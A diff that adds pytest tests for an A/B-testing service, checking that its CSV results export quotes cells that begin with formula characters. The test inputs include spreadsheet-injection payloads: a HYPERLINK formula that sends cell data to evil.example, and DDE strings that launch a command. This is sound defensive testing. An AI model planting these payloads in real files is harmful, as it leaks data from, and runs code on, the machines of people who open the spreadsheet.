@@ -197,6 +197,52 @@ def test_csv_export_has_a_row_per_goal_segment_and_variant(client: Any, redis_cl
     assert rows[1]["status"] == "not_enough_data" and rows[1]["reason"].startswith("fewer than")
 
 
+@pytest.mark.parametrize(
+    "value",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"x")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "-2.85",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_export_neutralises_formulas_in_text_cells(client: Any, value: str) -> None:
+    start(client)
+    for visitor in ("a", "b", "c", "d"):  # a browser sends the segment value
+        answer = client.post(
+            "/v1/assign", json={"visitor": visitor, "attributes": {"source": value}}
+        )
+        assert answer.status_code == 200
+    response = client.get("/v1/experiments/shipping-note/results?format=csv", headers=VIEWER)
+    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
+    cells = [row["segment_value"] for row in rows if row["segment"] == "source"]
+    stored = value.lstrip("\t\r")  # segment values lose control characters when counted
+    assert cells and set(cells) == {"'" + stored}
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_of_owasp_is_quoted(start: str) -> None:
+    from server.api.results import spreadsheet_cell
+
+    assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"
+    assert spreadsheet_cell(f"a{start}1") == f"a{start}1"
+
+
+def test_csv_export_keeps_computed_negative_numbers_numeric() -> None:
+    from server.api.results import spreadsheet_cell
+
+    assert spreadsheet_cell(-2.85) == -2.85
+    assert spreadsheet_cell(-3) == -3
+    assert spreadsheet_cell(None) is None
+    assert spreadsheet_cell("facebook") == "facebook"
+
+
 def test_results_need_a_viewer_token_and_a_known_experiment(client: Any) -> None:
     assert client.get("/v1/experiments/nope/results").status_code == 401
     assert client.get("/v1/experiments/nope/results", headers=VIEWER).status_code == 404
